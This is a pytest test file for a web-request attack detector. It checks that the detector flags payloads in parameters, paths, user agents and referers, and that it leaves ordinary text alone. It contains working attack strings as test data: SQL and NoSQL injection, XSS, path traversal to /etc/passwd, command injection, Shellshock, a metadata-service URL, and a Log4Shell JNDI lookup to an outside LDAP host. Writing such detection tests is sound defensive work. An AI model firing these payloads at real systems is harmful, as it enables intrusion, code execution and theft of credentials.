from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bavn.model.attempt import CLASSES, Evidence
from bavn.payloads.judging import ANALYZERS, MOST_EVIDENCE, RequestText, judge

CHROME = (
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
PAYLOADS = {
    "sql-injection": "1' UNION SELECT name, password FROM users-- ",
    "nosql-injection": '{"password": {"$gt": ""}}',
    "cross-site-scripting": '"><svg/onload=alert(1)>',
    "path-traversal": "../../../../../../etc/passwd",
    "file-inclusion": "http://169.254.169.254/latest/meta-data/",
    "command-injection": "; cat /etc/passwd",
    "template-injection": "{{7*7}}",
    "jndi-injection": "${jndi:ldap://203.0.113.7/a}",
    "php-injection": "<?php system('id'); ?>",
    "java-injection": "java.lang.Runtime.getRuntime().exec('id')",
    "header-injection": "x\r\nSet-Cookie: a=b",
}


def asked(
    query: bytes = b"", path: bytes = b"/search", agent: bytes = b"", referer: bytes = b""
) -> tuple[Evidence, ...]:
    return judge(RequestText(b"GET", path, query, agent, referer))


def classes(evidence: tuple[Evidence, ...]) -> set[str]:
    return {found.attack for found in evidence}


def escaped(text: str) -> bytes:
    return quote(text, safe="").encode()


def test_every_class_has_its_analyzer_or_its_list_of_probes() -> None:
    assert {analyzer.attack for analyzer in ANALYZERS} == set(CLASSES) - {"known-probe", "web-shell", "scanner-tool"}


@pytest.mark.parametrize(("attack", "payload"), PAYLOADS.items(), ids=PAYLOADS)
def test_a_payload_in_a_parameter_is_found(attack: str, payload: str) -> None:
    evidence = asked(b"page=2&q=" + escaped(payload))
    assert attack in classes(evidence)
    assert {(found.where, found.parameter) for found in evidence} == {("query", "q")}


@pytest.mark.parametrize(("attack", "payload"), PAYLOADS.items(), ids=PAYLOADS)
def test_a_payload_that_is_escaped_twice_is_judged_as_the_plain_one(attack: str, payload: str) -> None:
    assert attack in classes(asked(b"q=" + escaped(quote(payload, safe=""))))


@pytest.mark.parametrize("attack", ["sql-injection", "cross-site-scripting", "command-injection", "jndi-injection"])
def test_a_payload_in_the_path_is_found(attack: str) -> None:
    assert attack in classes(asked(path=b"/shop/" + escaped(PAYLOADS[attack])))


def test_plus_signs_in_a_path_are_read_as_spaces_too() -> None:
    assert "command-injection" in classes(asked(path=b"/shop/x;cat+/etc/passwd"))


def test_a_climb_out_of_the_root_is_found_in_a_path() -> None:
    assert "path-traversal" in classes(asked(path=b"/static/..%2f..%2f..%2f..%2fetc/passwd"))


@pytest.mark.parametrize("attack", ["sql-injection", "cross-site-scripting", "jndi-injection", "php-injection"])
def test_a_payload_in_the_agent_is_found(attack: str) -> None:
    evidence = asked(agent=b"Mozilla/5.0 " + PAYLOADS[attack].encode())
    assert (attack, "agent") in {(found.attack, found.where) for found in evidence}


def test_shellshock_is_found() -> None:
    assert "command-injection" in classes(asked(agent=b"() { :; }; /bin/bash -c 'id'"))


def test_a_payload_in_the_referer_is_found_and_less_sure() -> None:
    (found,) = asked(referer=b"https://www.example.com/?a=1&q=" + escaped(PAYLOADS["cross-site-scripting"]))
    assert (found.where, found.parameter) == ("referer", "q")
    assert found.certainty <= 0.5


def test_a_referer_that_is_no_address_is_judged_whole() -> None:
    assert "cross-site-scripting" in classes(asked(referer=b"<script>alert(1)</script>"))
    assert "command-injection" in classes(asked(referer=b";env"))
    assert asked(referer=b"www.example.org/about") == ()


def test_a_payload_in_the_name_of_a_parameter_is_found() -> None:
    evidence = asked(escaped(PAYLOADS["cross-site-scripting"]) + b"=1")
    assert "cross-site-scripting" in classes(evidence)
    assert {found.parameter for found in evidence} == {""}


def test_an_operator_in_a_name_is_found_whatever_the_value() -> None:
    assert "nosql-injection" in classes(asked(b"user[$ne]=x&password[$ne]=x"))


def test_a_payload_in_a_document_is_found_under_its_key() -> None:
    evidence = asked(b"f=" + escaped('{"user": {"name": "1\' OR 1=1-- "}}'))
    assert ("sql-injection", "name") in {(found.attack, found.parameter) for found in evidence}


def test_sql_of_mere_words_is_found() -> None:
    assert classes(asked(b"id=-1+union+select+1,2,3")) == {"sql-injection"}


def test_a_payload_in_base64_is_found() -> None:
    assert "cross-site-scripting" in classes(asked(b"q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="))


def test_a_payload_in_base64_is_found_under_any_name() -> None:
    assert "cross-site-scripting" in classes(asked(b"a[0]=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"))


def test_an_object_of_java_in_base64_is_found() -> None:
    assert "java-injection" in classes(asked(b"state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"))


def test_a_row_of_signs_is_a_probe() -> None:
    assert classes(asked(b"q=12" + escaped("'\"\\();|<>"))) >= {"known-probe"}


def test_a_known_path_a_hidden_file_and_a_tool_are_told() -> None:
    assert classes(asked(path=b"/.git/config")) == {"known-probe"}
    assert classes(asked(path=b"/.nobody-knows/this")) == {"known-probe"}
    assert classes(asked(agent=b"sqlmap/1.8.2#stable (https://sqlmap.org)")) == {"scanner-tool"}


def test_a_session_in_a_link_is_little_evidence() -> None:
    (found,) = judge(RequestText(b"GET", b"/", b"PHPSESSID=1234", b"", b"https://evil.example/", b"www.example.org"))
    assert (found.attack, found.because) == ("header-injection", "session-from-outside")
    assert found.certainty < 0.5
    own = RequestText(b"GET", b"/", b"PHPSESSID=1234", b"", b"https://www.example.org/", b"www.example.org")
    assert judge(own) == ()


def test_no_evidence_repeats_itself_and_there_is_not_too_much() -> None:
    query = b"&".join(f"p{number}={quote(PAYLOADS['sql-injection'])}".encode() for number in range(100))
    evidence = asked(query)
    assert len(evidence) == MOST_EVIDENCE
    assert len({(found.attack, found.parameter) for found in evidence}) == MOST_EVIDENCE


def test_no_part_of_a_payload_is_told() -> None:
    for payload in PAYLOADS.values():
        for found in asked(escaped(payload) + b"=" + escaped(payload), b"/" + escaped(payload)):
            assert found.parameter == ""
            assert found.because.replace("-", "").isalnum()


@pytest.mark.parametrize(
    "text",
    [
        "select a union member from the list",
        "Peter O'Brien",
        "Søren Kærsgård & sønner A/S",
        "Ærø, færge; pris 45,- kr. (retur)",
        "std::vector<int> v; v.push_back(1);",
        'for (int i = 0; i < n; i++) { printf("%d\\n", i); }',
        "if (a < b && b > c) return a;",
        '{"name":"Bo","tags":["a","b"],"age":3}',
        '{"query":"{ user(id: 1) { name email } }"}',
        "https://www.example.org/path?x=1&y=2#top",
        "/min/side/?a=b",
        "../images/logo.png",
        "C:\\Users\\Bo\\Documents\\brev.docx",
        'project = ABC AND status = "In Progress" ORDER BY created DESC',
        "Name eq 'O''Brien' and Age gt 30",
        'sum(rate(http_requests_total{job="api"}[5m])) by (code)',
        "Open Sans:400,700|Roboto:300",
        "M10 10 L20 20 C 1 1, 2 2, 3 3 Z",
        "body { color: #fff; } a:hover { text-decoration: none; }",
        "Dear {{ user.name }}, welcome",
        "${price} kr.",
        "1 or 2 persons",
        "drop table lamp",
        "cats & dogs",
        "fish | chips",
        "rock 'n' roll",
        'she said "it\'s ok"',
        "mailto:bo@example.com",
        "data:image/png;base64,iVBORw0KGgo=",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "U29tZSBvcmRpbmFyeSB0ZXh0IHRoYXQgaXMgcGxhaW4=",
        "how to use cat /etc/hosts",
        "SELECT statement tutorial",
        "50%",
        "'",
        "<b>bold</b>",
        "[link](https://example.com)",
        "POLYGON((12 55, 13 55, 13 56, 12 55))",
        "Nørre Allé 12, 2. th; 8000 Aarhus C",
        '5\'11" and 24" monitors',
        "Note: see above",
        "first line\r\nsecond line: more",
    ],
)
def test_what_people_search_for_accuses_nobody(text: str) -> None:
    assert (
        asked(b"q=" + escaped(text) + b"&page=2", agent=CHROME, referer=b"https://www.example.org/?q=" + escaped(text))
        == ()
    )


@pytest.mark.parametrize(
    "agent",
    [
        CHROME,
        b"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        b"Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) [FBAN/FBIOS;FBDV/iPhone12,8;FBSS/2]",
        b"Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
        b"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0.50727; InfoPath.3; .NET4.0C)",
        b'"Mozilla/5.0 (Windows NT 6.1)"',
        b"SonyEricssonK610i/R1CB Browser/NetFront/3.3 Profile/MIDP-2.0 {Java}",
        b"Bo's reader/1.0",
        b"-",
    ],
)  # fmt: skip
def test_an_ordinary_agent_accuses_nobody(agent: bytes) -> None:
    assert asked(agent=agent) == ()


@given(st.binary(max_size=60), st.binary(max_size=120), st.binary(max_size=60), st.binary(max_size=60))
def test_no_bytes_are_refused(path: bytes, query: bytes, agent: bytes, referer: bytes) -> None:
    assert isinstance(asked(query, path, agent, referer), tuple)


SIGNS = "'\"<>(){}[]$;|`=%&+/\\:#\0 1aø"
WORDS = str.split(
    "../ -- ${ {{ <? O:1: javascript: http:// select or union alert system script cat id tee while $where"
)
FRAGMENTS = st.sampled_from([*SIGNS, *WORDS])


@given(st.lists(FRAGMENTS, max_size=30), st.integers(1, 2))
def test_what_is_found_in_plain_text_is_found_in_escaped_text(pieces: list[str], layers: int) -> None:
    text = "".join(pieces)
    raw = quote(text, safe="")
    once = classes(asked(b"q=" + raw.encode()))
    for _layer in range(layers):
        raw = quote(raw, safe="")
    assert once <= classes(asked(b"q=" + raw.encode()))
